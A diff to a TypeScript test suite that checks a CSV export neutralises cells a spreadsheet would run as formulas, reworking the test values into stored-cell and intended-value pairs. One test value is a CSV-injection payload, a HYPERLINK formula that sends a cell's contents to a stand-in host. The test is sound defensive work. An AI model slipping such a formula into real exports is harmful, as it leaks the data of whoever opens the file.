@@ -150,8 +150,20 @@ describe('a history with same-day assessments', () => {
 describe('cells a spreadsheet would run as a formula', () => {
   // Source ids and provider names are free text: a cell starting with = + - @ (or tab, CR) would
   // run as a formula in Excel or LibreOffice when someone opens the export (CSV injection).
-  const HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', '+31 6 1234 5678', '@SUM(A1:A9)', '-2+3', "'=al eens beschermd", "''@twee keer"];
-  const ORDINARY = ["'s-Hertogenbosch", '-3', 'Zorg & Co'];
+  // [the cell in the file, the value it stands for]: an apostrophe before a formula marks it as text.
+  const CELLS: [string, string][] = [
+    ['=HYPERLINK("http://x.example/?d="&A1,"klik")', '=HYPERLINK("http://x.example/?d="&A1,"klik")'],
+    ['+31 6 1234 5678', '+31 6 1234 5678'],
+    ['@SUM(A1:A9)', '@SUM(A1:A9)'],
+    ['-2+3', '-2+3'],
+    ["'=beschermd door het andere systeem", '=beschermd door het andere systeem'],
+    ["''=een apostrof en dan =", "'=een apostrof en dan ="],
+    ["'''@twee apostroffen en dan @", "''@twee apostroffen en dan @"],
+    ["'s-Hertogenbosch", "'s-Hertogenbosch"],
+    ['-3', '-3'],
+    ['Zorg & Co', 'Zorg & Co'],
+  ];
+  const VALUES = CELLS.map(([, value]) => value);
   const product = codesFile.provision_products[0]!;
 
   /** Every cell of a CSV text as written (quotes removed, nothing else undone) that starts like a formula and is no plain number. */
@@ -161,7 +173,7 @@ describe('cells a spreadsheet would run as a formula', () => {
   }
 
   function hostileFolder(): Record<string, string> {
-    const names = [...HOSTILE, ...ORDINARY];
+    const names = CELLS.map(([cell]) => cell);
     return {
       'clients.csv': writeRows(FILE_COLUMNS['clients.csv'], names.map((name) => [name, '', '', '', ''])),
       'cases.csv': writeRows(FILE_COLUMNS['cases.csv'], names.map((_, i) => [`K${i}`, 'west', '2016-03-01', '', '', '', '', '', '', '', ''])),
@@ -193,7 +205,7 @@ describe('cells a spreadsheet would run as a formula', () => {
         await c.database.db.insert(provisions).values({ organisationId: orgC, caseId: someCase!.id, clientId: someCase!.clientId, category: product.category, product: product.code, provider, startOn: '2016-05-01' });
       }
       const before = await stored(c.database);
-      expect(before.clients).toEqual([...HOSTILE, ...ORDINARY].sort());
+      expect(before.clients).toEqual([...VALUES].sort());
 
       const first = await exportAll(c.database, orgC);
       for (const [file, text] of Object.entries(first)) expect(formulaCells(text), file).toEqual([]);
